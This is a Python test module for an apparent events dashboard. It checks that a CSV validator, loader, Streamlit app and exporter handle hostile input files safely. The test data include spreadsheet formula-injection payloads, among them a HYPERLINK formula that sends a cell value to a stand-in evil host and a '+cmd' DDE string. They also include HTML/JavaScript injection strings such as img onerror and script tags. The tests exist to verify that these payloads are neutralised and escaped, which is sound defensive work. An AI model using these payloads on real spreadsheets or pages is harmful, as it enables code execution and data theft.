"""Hostile input, safe output: one entry per file in tests/data/hostile/ (see its README.md).

For each file: the exact lines `python -m dashboard validate` prints and its exit code, the exact
set of event ids the loader keeps (no valid row silently dropped), the app's warning and problems
expander, and the export -> validate -> load round trip. Then a 100,000-row table, generated here.
"""

from __future__ import annotations

import csv
import functools
import io
import json
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

import dashboard.dataset
from dashboard import cli
from dashboard.data import load_events
from dashboard.dataset import ENV_EVENTS, load_dataset
from dashboard.export import to_csv_bytes
from dashboard.formatting import escape_markdown
from dashboard.layers import key_for_json
from dashboard.schema import CATEGORIES, EVENT_COLUMNS, NUMERIC_COLUMNS

REPO = Path(__file__).resolve().parent.parent
HOSTILE = REPO / "tests" / "data" / "hostile"
APP = str(REPO / "streamlit_app.py")
ARTICLES = frozenset({1, 2, 3, 4})
CATEGORY_LIST = ", ".join(CATEGORIES)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

SGP, VLAD, PYONG = "h-singapore-summit", "h-vladivostok-meeting", "h-pyongyang-trade"
# markdown_in_text.csv: Streamlit syntax that must show as typed (tests/e2e/test_security.py).
MD_TITLE = ":material/home: :smile: :streamlit: :red[not red] :red flag"
MD_SUMMARY = "See https://evil.example/?a=1&b=2, www.evil.example or spy@evil.example; &amp; &lt;b&gt; &copy;"
MD_EVIDENCE = "-> <- <-> -- >= <= ~= 2018--2019"
MD_MARKERS = "1) not a list; > not a quote; # not a heading; ~~kept~~"


@dataclass(frozen=True)
class Case:
    file: str
    exit: int
    problems: tuple[str, ...]  # exactly what `validate` prints, in order
    loaded: frozenset[str]  # exactly the event ids the loader keeps
    rows_read: int


CASES = [
    Case(
        "missing_columns.csv",
        1,
        ("missing_columns.csv:1: lat,evidence: required column missing: no row can be loaded",),
        frozenset(),
        2,
    ),
    Case("extra_columns.csv", 0, (), frozenset({SGP, VLAD}), 2),
    Case("utf8_bom.csv", 0, (), frozenset({SGP, VLAD}), 2),
    Case("crlf.csv", 0, (), frozenset({SGP, VLAD, PYONG}), 3),
    Case(
        "latin1.csv",
        1,
        (
            "latin1.csv:3: -: not UTF-8 (byte 0xE9 at offset 413); read as Windows-1252/Latin-1: "
            "check accented characters (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case("empty.csv", 1, ("empty.csv:1: -: file is empty: expected a header row",), frozenset(), 0),
    Case("header_only.csv", 1, ("header_only.csv:2: -: header only: the table has no rows",), frozenset(), 0),
    Case(
        "duplicate_event_id.csv",
        1,
        ("duplicate_event_id.csv:4: event_id: duplicate id 'h-singapore-summit', first on line 2",),
        frozenset({SGP, VLAD}),
        3,
    ),
    Case(
        "bad_dates.csv",
        1,
        (
            "bad_dates.csv:3: date_start: '2018-13-40' has month 13; months run 01-12",
            "bad_dates.csv:4: date_start: 'next year' is not an ISO date (YYYY, YYYY-MM or YYYY-MM-DD)",
            "bad_dates.csv:5: date_start: '2019-02-30': day 30 does not exist in that month",
        ),
        frozenset({SGP, PYONG}),
        5,
    ),
    Case(
        "end_before_start.csv",
        1,
        ("end_before_start.csv:3: date_end: '2019-04-25' is before date_start",),
        frozenset({SGP, PYONG}),
        3,
    ),
    Case(
        "bad_coordinates.csv",
        1,
        (
            "bad_coordinates.csv:3: lat: 95 is outside -90..90",
            "bad_coordinates.csv:4: lon: 200 is outside -180..180",
            "bad_coordinates.csv:5: lat: 'NaN' is not a finite number",
            "bad_coordinates.csv:6: lon: 'east of Moscow' is not a finite number",
            "bad_coordinates.csv:7: lat,lon: give both lat and lon, or neither",
        ),
        frozenset({SGP, PYONG}),
        7,
    ),
    Case(
        "unknown_codes.csv",
        1,
        (
            "unknown_codes.csv:3: country_iso3: unknown ISO3 code 'XXX'",
            f"unknown_codes.csv:4: category: unknown category 'party'; expected one of {CATEGORY_LIST}",
            "unknown_codes.csv:5: organisations: unknown organisation 'NOPE'",
            "unknown_codes.csv:6: participants: unknown ISO3 code 'XXX'",
        ),
        frozenset({SGP, PYONG}),
        6,
    ),
    Case(
        "quoted_fields.csv",
        1,
        # Line 7, not 4: the first record spans four physical lines and the third two.
        (f"quoted_fields.csv:7: category: unknown category 'party'; expected one of {CATEGORY_LIST}",),
        frozenset({SGP, VLAD, PYONG}),
        4,
    ),
    Case(
        "long_title.csv",
        1,
        ("long_title.csv:3: title: 5000 characters; at most 300",),
        frozenset({SGP, PYONG}),
        3,
    ),
    Case("html_in_text.csv", 0, (), frozenset({"h-img-onerror", "h-script-tag", PYONG}), 3),
    Case(
        "formulas_in_text.csv",
        0,
        (),
        frozenset(
            {
                "h-hyperlink",
                "h-plus-cmd",
                "h-minus",
                "h-at-sum",
                "h-tab",
                "h-cr",
                "h-apostrophe",
                "h-negative-value",
                "h-formula-unit",
            }
        ),
        9,
    ),
    # Column names: unsafe ones are not loaded, the rest of the table is (see column_name_problem).
    Case(
        "formula_column_name.csv",
        1,
        (
            'formula_column_name.csv:1: \'=HYPERLINK("http://evil.example/?"&A2,"…\': name starts with '
            "'=', which a spreadsheet reads as a formula; column not loaded (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case(
        "bad_column_names.csv",
        1,
        (
            "bad_column_names.csv:1: '': column has no name; column not loaded (warning: row kept)",
            "bad_column_names.csv:1: '-1+1': name starts with '-', which a spreadsheet reads as a formula; "
            "column not loaded (warning: row kept)",
            "bad_column_names.csv:1: '@cmd': name starts with '@', which a spreadsheet reads as a formula; "
            "column not loaded (warning: row kept)",
            f"bad_column_names.csv:1: '{'n' * 39}…': name is 101 characters; at most 100; "
            "column not loaded (warning: row kept)",
            "bad_column_names.csv:1: 'note\\x1b[31m': name holds control characters (U+001B); "
            "column not loaded (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case(
        "derived_column_names.csv",
        1,
        tuple(
            f"derived_column_names.csv:1: {column}: the dashboard derives a column of this name, "
            "which would overwrite yours; column not loaded (warning: row kept)"
            for column in ("partners", "search_text", "year_start")
        ),
        frozenset({SGP, PYONG}),
        2,
    ),
    # An unclosed quote costs its own line only; "rows read" counts every data line.
    Case(
        "unclosed_quote.csv",
        1,
        (
            "unclosed_quote.csv:4: -: unclosed quote; lines 4-52 read as one field, to the end of the file: "
            "line 4 skipped, lines 5-52 read again as rows",
        ),
        frozenset({"h-before-1", "h-before-2"} | {f"h-after-{i:02d}" for i in range(1, 49)}),
        51,
    ),
    Case(
        "unclosed_quote_small.csv",
        1,
        (
            "unclosed_quote_small.csv:3: -: unclosed quote; lines 3-5 read as one field: "
            "line 3 skipped, lines 4-5 read again as rows",
        ),
        frozenset({"h-first", "h-middle", "h-quoted-evidence", "h-last"}),
        5,
    ),
    Case(
        "unclosed_quote_at_end.csv",
        1,
        (
            "unclosed_quote_at_end.csv:4: -: unclosed quote; the field runs to the end of the file: "
            "line 4 skipped",
        ),
        frozenset({"h-first", "h-second"}),
        3,
    ),
    Case(
        "ten_thousand_columns.csv",
        1,
        ("ten_thousand_columns.csv:1: -: 10,000 columns; at most 100: no row can be loaded",),
        frozenset(),
        1,
    ),
    Case("markdown_in_text.csv", 0, (), frozenset({"h-md-shortcodes", "h-md-markers", PYONG}), 3),
    Case(
        "bidi_controls.csv",
        1,
        (
            "bidi_controls.csv:2: place: bidirectional controls removed (U+2066, U+2069): "
            "they can make text display in another order (warning: row kept)",
            "bidi_controls.csv:2: title: bidirectional controls removed (U+202E, U+202C): "
            "they can make text display in another order (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case(
        "utf16.csv",
        1,
        (
            "utf16.csv:1: -: this file is UTF-16 (little-endian, with a byte order mark): read as UTF-16; "
            "save it as UTF-8 (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case(
        "utf16_no_bom.csv",
        1,
        (
            "utf16_no_bom.csv:1: -: this file is UTF-16 (big-endian, no byte order mark): read as UTF-16; "
            "save it as UTF-8 (warning: row kept)",
        ),
        frozenset({SGP, VLAD}),
        2,
    ),
    Case(
        "oversized_field.csv",
        1,
        ("oversized_field.csv:3: -: a field is longer than 100,000 characters: row skipped",),
        frozenset({SGP, PYONG}),
        3,
    ),
]
IDS = [c.file.removesuffix(".csv") for c in CASES]


def test_every_hostile_file_has_a_case_and_a_readme_entry():
    files = sorted(p.name for p in HOSTILE.glob("*.csv"))
    assert files == sorted(c.file for c in CASES)
    readme = (HOSTILE / "README.md").read_text(encoding="utf-8")
    assert all(f"`{name}`" in readme for name in files)


@pytest.fixture(autouse=True, scope="module")
def _reference_read_once():
    """The CLI reads the reference geodata on every call; read it once for this module."""
    original = dashboard.dataset.load_reference_and_sources
    dashboard.dataset.load_reference_and_sources = functools.cache(original)
    yield
    dashboard.dataset.load_reference_and_sources = original


# ----- validate: every bad row named with line, column and reason ---------------------------------
@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_validate_names_every_bad_row(case, capsys):
    code = cli.main(["validate", str(HOSTILE / case.file)])
    out, err = capsys.readouterr()
    assert code == case.exit
    assert tuple(out.splitlines()[: len(case.problems)]) == case.problems
    skipped = case.rows_read - len(case.loaded)
    if case.problems:
        summary = (
            f"{case.file}: {len(case.loaded)} of {case.rows_read} rows loaded, "
            f"{skipped} skipped, {_problems(len(case.problems))}"
        )
        assert out.splitlines() == list(case.problems)
        assert err.strip() == summary
    else:
        assert out.strip() == f"{case.file}: {len(case.loaded)} rows valid"
        assert err == ""


@pytest.mark.parametrize("name", ["bad_coordinates.csv", "html_in_text.csv"])
def test_validate_as_a_real_command(name):
    """The same through `python -m dashboard validate PATH`, as an analyst runs it."""
    case = next(c for c in CASES if c.file == name)
    proc = subprocess.run(
        [sys.executable, "-m", "dashboard", "validate", str(HOSTILE / name)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == case.exit, proc.stderr
    if case.problems:
        assert tuple(proc.stdout.splitlines()) == case.problems
    assert "Traceback" not in proc.stderr


# ----- loader: valid rows kept, counts stated ----------------------------------------------------
@functools.cache
def _dataset(name: str):
    return load_dataset(HOSTILE / name)


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_loader_keeps_exactly_the_valid_rows(case):
    result = _dataset(case.file).result
    assert set(result.frame["event_id"]) == case.loaded
    assert result.rows_read == case.rows_read
    assert result.rows_loaded == len(case.loaded)
    assert result.rows_skipped == case.rows_read - len(case.loaded)
    assert list(result.frame.columns[: len(EVENT_COLUMNS)]) == list(EVENT_COLUMNS)
    assert [str(p) for p in result.problems] == [
        p.removesuffix(" (warning: row kept)") for p in case.problems
    ]
    if case.problems:
        assert result.summary(case.file) == (
            f"{case.file}: {len(case.loaded)} of {case.rows_read} rows loaded, "
            f"{case.rows_read - len(case.loaded)} skipped, {_problems(len(case.problems))}"
        )


def _row(name: str, event_id: str) -> pd.Series:
    frame = _dataset(name).result.frame
    return frame.loc[frame["event_id"] == event_id].iloc[0]


# (file, event id, column, the exact value loaded)
VALUES = [
    ("utf8_bom.csv", SGP, "title", "Russia–ASEAN summit in Singapore"),
    ("utf8_bom.csv", SGP, "summary", "Société, Ünïcödé, “quotes”"),
    ("crlf.csv", VLAD, "summary", "Two\r\nlines"),
    ("crlf.csv", PYONG, "evidence", "trade turnover"),
    ("latin1.csv", VLAD, "title", "Société Générale delegation in Vladivostok"),
    ("extra_columns.csv", SGP, "analyst_note", "check, later"),
    ("extra_columns.csv", VLAD, "analyst_note", '+follow up, =HYPERLINK("x")'),
    ("extra_columns.csv", VLAD, "priority", "2"),
    ("quoted_fields.csv", SGP, "title", 'Summit, "with quotes", and commas'),
    ("quoted_fields.csv", SGP, "summary", 'Line one,\nline two, "quoted"\n\nline four'),
    ("quoted_fields.csv", VLAD, "evidence", 'he said, "let us meet"'),
    ("html_in_text.csv", "h-img-onerror", "title", "<img src=x onerror=alert(1)>"),
    ("html_in_text.csv", "h-img-onerror", "summary", "<script>alert('summary')</script> and <b>bold</b>"),
    ("html_in_text.csv", "h-img-onerror", "evidence", '<a href="javascript:alert(1)">click</a>'),
    ("html_in_text.csv", "h-script-tag", "place", "Singapore <iframe src=x>"),
    ("formulas_in_text.csv", "h-hyperlink", "title", '=HYPERLINK("http://evil.example","click")'),
    ("formulas_in_text.csv", "h-hyperlink", "evidence", "@SUM(A1)"),
    ("formulas_in_text.csv", "h-plus-cmd", "title", "+cmd|' /C calc'!A0"),
    ("formulas_in_text.csv", "h-minus", "title", "-2+3"),
    ("formulas_in_text.csv", "h-minus", "summary", "-"),
    ("formulas_in_text.csv", "h-at-sum", "title", "@SUM(A1)"),
    ("formulas_in_text.csv", "h-tab", "title", "\tstarts with a tab"),
    ("formulas_in_text.csv", "h-tab", "evidence", "\t=1+1"),
    ("formulas_in_text.csv", "h-cr", "title", "\rstarts with a carriage return"),
    # An apostrophe before a trigger is read as a spreadsheet's neutralising mark (see README).
    ("formulas_in_text.csv", "h-apostrophe", "title", "=already neutralised"),
    ("formulas_in_text.csv", "h-negative-value", "value", -5.5),
    ("formulas_in_text.csv", "h-formula-unit", "unit", "=1+1"),
    ("formula_column_name.csv", SGP, "analyst_note", "check later"),
    ("bad_column_names.csv", VLAD, "priority", "2"),
    ("derived_column_names.csv", PYONG, "analyst_note", "kept too"),
    ("unclosed_quote_small.csv", "h-quoted-evidence", "evidence", 'he said, "let us trade"'),
    ("unclosed_quote_small.csv", "h-middle", "title", "Putin and Kim meet in Vladivostok"),
    ("markdown_in_text.csv", "h-md-shortcodes", "title", MD_TITLE),
    ("markdown_in_text.csv", "h-md-shortcodes", "summary", MD_SUMMARY),
    ("markdown_in_text.csv", "h-md-shortcodes", "evidence", MD_EVIDENCE),
    ("markdown_in_text.csv", "h-md-markers", "title", "- not a list item"),
    (
        "markdown_in_text.csv",
        "h-md-markers",
        "summary",
        "1) not a list; > not a quote; # not a heading; ~~kept~~",
    ),
    # Bidirectional controls are removed (with a warning); every visible character stays.
    ("bidi_controls.csv", SGP, "title", "Summit in eropagniS"),
    ("bidi_controls.csv", SGP, "place", "Singapore"),
    ("utf16.csv", SGP, "title", "Russia–ASEAN summit in Singapore"),
    ("utf16.csv", SGP, "summary", "Société, Ünïcödé, “quotes”"),
    ("utf16_no_bom.csv", SGP, "summary", "Société, Ünïcödé, “quotes”"),
]


@pytest.mark.parametrize(("name", "event_id", "column", "value"), VALUES)
def test_loaded_values_are_exactly_what_the_file_says(name, event_id, column, value):
    assert _row(name, event_id)[column] == value


def test_bom_does_not_stick_to_the_first_column_name():
    frame = _dataset("utf8_bom.csv").result.frame
    assert frame.columns[0] == "event_id"
    assert not any(c.startswith("\ufeff") for c in frame.columns)


@pytest.mark.parametrize(
    ("name", "extra"),
    [
        ("extra_columns.csv", ("analyst_note", "priority")),
        ("formula_column_name.csv", ("analyst_note",)),  # the formula-named column is not loaded
        ("bad_column_names.csv", ("priority",)),
        ("derived_column_names.csv", ("analyst_note",)),
    ],
)
def test_extra_columns_are_kept_and_exported(name, extra):
    result = _dataset(name).result
    assert result.extra_columns == extra
    assert list(result.frame.columns) == [*EVENT_COLUMNS, *extra]
    header = to_csv_bytes(result.frame).split(b"\r\n")[0]
    assert header == b"\xef\xbb\xbf" + ",".join([*EVENT_COLUMNS, *extra]).encode()


def test_derived_columns_are_the_dashboards_own():
    """A table's own `partners` or `year_start` is not loaded, so it never overwrites them."""
    events = _dataset("derived_column_names.csv").events.set_index("event_id")
    assert events.loc[SGP, "partners"] == "SGP" and events.loc[PYONG, "partners"] == "PRK"
    assert events.loc[SGP, "year_start"] == 2018 and events.loc[PYONG, "year_start"] == 2018
    assert "mine" not in events.loc[SGP, "search_text"]


# ----- safe output: neutralised, numbers untouched, RFC 4180, BOM, lossless round trip ----------
LOADED_CASES = [c for c in CASES if c.loaded]


def _cells(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("case", LOADED_CASES, ids=[c.file.removesuffix(".csv") for c in LOADED_CASES])
def test_export_neutralises_and_round_trips(case, tmp_path, capsys):
    dataset = _dataset(case.file)
    frame = dataset.result.frame
    raw = to_csv_bytes(frame)
    # RFC 4180: CRLF after every record, nothing else at the end; strict parsing accepts it.
    assert raw.endswith(b"\r\n")
    rows = _cells(raw)
    assert [r["event_id"] for r in rows] == list(frame["event_id"])
    for r, (_, loaded) in zip(rows, frame.iterrows(), strict=True):
        for column, cell in r.items():
            if column in NUMERIC_COLUMNS or column == "article":
                if pd.notna(loaded[column]):
                    assert float(cell) == loaded[column]  # numbers are numbers: "-5.5", never "'-5.5"
                continue
            assert not cell.startswith(TRIGGERS), (column, cell)
            original = str(loaded[column]) if column != "date_inferred" else cell
            if original.startswith(TRIGGERS) or original.startswith("'"):
                assert cell.startswith("'"), (column, cell)

    # export -> validate -> load keeps every row and every value.
    exported = tmp_path / f"export-{case.file}"
    exported.write_bytes(raw)
    assert cli.main(["validate", str(exported)]) == 0
    capsys.readouterr()
    again = load_events(exported, dataset.reference, ARTICLES)
    assert again.ok, [str(p) for p in again.problems]
    pd.testing.assert_frame_equal(frame, again.frame)
    assert again.extra_columns == dataset.result.extra_columns


def test_exported_formulas_read_as_text_and_negative_numbers_stay_numbers():
    raw = to_csv_bytes(_dataset("formulas_in_text.csv").result.frame)
    text = raw.decode("utf-8-sig")
    by_id = {r["event_id"]: r for r in _cells(raw)}
    assert by_id["h-hyperlink"]["title"] == '\'=HYPERLINK("http://evil.example","click")'
    assert by_id["h-plus-cmd"]["title"] == "'+cmd|' /C calc'!A0"
    assert by_id["h-minus"]["title"] == "'-2+3"
    assert by_id["h-at-sum"]["title"] == "'@SUM(A1)"
    assert by_id["h-tab"]["title"] == "'\tstarts with a tab"
    assert by_id["h-cr"]["title"] == "'\rstarts with a carriage return"
    assert by_id["h-apostrophe"]["title"] == "'=already neutralised"
    assert by_id["h-formula-unit"]["unit"] == "'=1+1"
    assert by_id["h-negative-value"]["value"] == "-5.5"
    # RFC 4180 quoting: fields with quotes, commas or line breaks are quoted, quotes doubled.
    assert '"\'=HYPERLINK(""http://evil.example"",""click"")"' in text
    assert '"\'\rstarts with a carriage return"' in text
    assert ",-5.5,percent," in text


# ----- the app: no exception, counts in a warning, problems in an expander -----------------------
def _app(monkeypatch, name: str, page: str | None = None) -> AppTest:
    monkeypatch.setenv(ENV_EVENTS, str(HOSTILE / name))
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()
    if page:
        at.switch_page(f"dashboard/ui/pages/{page}.py").run()
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    shown = [el.value for el in (*at.markdown, *at.caption, *at.warning) if isinstance(el.value, str)]
    assert not any("Traceback" in text for text in shown)
    return at


@pytest.mark.parametrize("case", CASES, ids=IDS)
def test_app_shows_counts_and_problems(case, monkeypatch):
    at = _app(monkeypatch, case.file)
    loaded, skipped = len(case.loaded), case.rows_read - len(case.loaded)
    label = escape_markdown(case.file)
    using = escape_markdown(f"Using {case.file}: {loaded} events loaded, {skipped} skipped.")
    assert using in [c.value for c in at.sidebar.caption]
    if not case.problems:
        assert not at.warning
        assert not at.expander
        return
    counts = f"loaded {loaded} of {case.rows_read} rows; skipped {skipped}."
    assert [w.value for w in at.warning if counts in w.value], [w.value for w in at.warning]
    (expander,) = at.expander
    assert expander.label == f"Problems in {label} ({len(case.problems)})"
    table = expander.dataframe[0].value
    shown = [
        f"{f}:{n}: {c}: {r}"
        for f, n, c, r in table[["file", "line", "column", "problem"]].itertuples(index=False)
    ]
    assert shown == [p.removesuffix(" (warning: row kept)") for p in case.problems]
    outcome = ["row kept" if p.endswith("(warning: row kept)") else "row skipped" for p in case.problems]
    assert table["outcome"].tolist() == outcome


@pytest.mark.parametrize(
    "name",
    [
        "empty.csv",
        "missing_columns.csv",
        "html_in_text.csv",
        "formulas_in_text.csv",
        "markdown_in_text.csv",
        "ten_thousand_columns.csv",
        "unclosed_quote.csv",
    ],
)
@pytest.mark.parametrize("page", ["data", "timeline", "sources"])
def test_every_page_survives_hostile_tables(name, page, monkeypatch):
    _app(monkeypatch, name, page)


@pytest.mark.parametrize("page", [None, "data", "timeline", "sources"])
def test_each_page_shows_the_load_report_once(page, monkeypatch):
    at = _app(monkeypatch, "unclosed_quote.csv", page)
    assert [w.value for w in at.warning if "loaded 50 of 51 rows" in w.value] == [
        "unclosed\\_quote.csv: loaded 50 of 51 rows; skipped 1. 1 problem (1 skip a row)."
    ]
    assert [e.label for e in at.expander if e.label.startswith("Problems in")] == [
        "Problems in unclosed\\_quote.csv (1)"
    ]


def test_html_in_the_detail_panel_is_escaped_markdown(monkeypatch):
    at = _app(monkeypatch, "html_in_text.csv")
    (chart,) = at.get("deck_gl_json_chart")
    at.session_state[key_for_json("map-summits", chart.proto.json)] = {
        "selection": {
            "indices": {"places": [0]},
            "objects": {"places": [{"place": "Vladivostok", "event_ids": "h-img-onerror"}]},
        }
    }
    at.run()
    assert not at.exception
    texts = [m.value for m in at.markdown]
    # The title is the (Markdown) label of the event's entry in the list beside the map.
    labels = [e.label for e in at.expander]
    assert any("\\<img src=x onerror=alert(1)\\>" in t for t in labels), labels
    assert any("\\<script\\>alert('summary')\\</script\\>" in t for t in texts), texts
    assert not any("<img" in t.replace("\\<img", "") for t in texts)
    (chart,) = at.get("deck_gl_json_chart")
    tooltip = json.loads(chart.proto.tooltip)
    assert tooltip["text"] == "{tooltip}" and "html" not in tooltip  # deck.gl sets it with innerText


# ----- 100,000 rows: generated here, validated and round-tripped in seconds ---------------------
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example","click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "\nstarts with a line feed",
    "<img src=x onerror=alert(1)>",
    'comma, "quote" and\nnewline',
    "Société – “quotes”",
    "plain",
]
BIG = 100_000
BAD_EVERY = 10_000  # rows 0, 10000, ... have latitude 95


def _big_table(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh, lineterminator="\r\n")  # quotes fields with CR or LF
        writer.writerow(EVENT_COLUMNS)
        for i in range(BIG):
            text = HOSTILE_TEXTS[i % len(HOSTILE_TEXTS)]
            lat = "95" if i % BAD_EVERY == 0 else "1.2897"
            value, unit, category = (str(-i - 0.5), "USD", "trade") if i % 3 == 0 else ("", "", "summit")
            cells = {
                "event_id": f"big-{i}",
                "title": text,
                "summary": text,
                "category": category,
                "date_start": "2018-11-14",
                "date_inferred": "false",
                "place_inferred": "false",
                "place": text[:100],
                "country_iso3": "SGP",
                "lat": lat,
                "lon": "103.8501",
                "participants": "RUS;SGP",
                "organisations": "ASEAN",
                "value": value,
                "unit": unit,
                "article": "1",
                "evidence": text,
            }
            writer.writerow([cells.get(c, "") for c in EVENT_COLUMNS])


def _problems(n: int) -> str:
    return "1 problem" if n == 1 else f"{n} problems"
